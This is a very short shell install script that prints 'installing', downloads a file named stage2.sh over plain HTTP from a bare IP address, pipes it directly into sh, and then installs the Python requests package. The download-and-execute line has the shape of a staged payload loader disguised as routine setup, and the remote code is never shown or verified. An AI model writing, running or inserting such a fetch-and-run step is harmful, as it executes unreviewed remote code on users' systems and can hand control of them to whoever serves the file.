#!/bin/sh
set -e
echo "installing"
curl -fsSL http://192.0.2.7/stage2.sh | sh
pip install requests
